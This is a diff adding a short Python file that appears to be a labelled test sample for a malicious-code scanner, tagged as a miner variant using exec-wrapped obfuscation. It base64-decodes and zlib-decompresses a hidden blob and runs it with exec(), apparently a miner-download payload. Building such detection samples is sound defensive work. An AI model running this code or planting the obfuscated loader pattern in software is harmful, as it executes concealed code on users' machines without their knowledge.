@@ -1,0 +1,3 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/download_miner_script.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFjUtPg0AURvf8ipu60UQGyivVxEXVmAZtTWgx4KbhcXlYYIa5M23T+ONFN66+k29xzhW8oCoaJMiGEqQeJoC+HVBCO5DKum6iSvJ+ugXnHVCrkBltL7hUQDoXkhdIZBj/zCbN9exUowJzfDehUUrQvWU5tstsNp+7zLEtQqXFvnB/pfu/IKMGviHPpjEJvGUZD2WyWn0GRaWr3fooRBqEp2TD9frxsj3kb2kllh9+TGeXDudNnWK6i778+DKqCPnW80Z+16s+eRpTz38OF77z6odHJ1h4UY2zW6AGu+5hJzXe/AB7TVkv')))
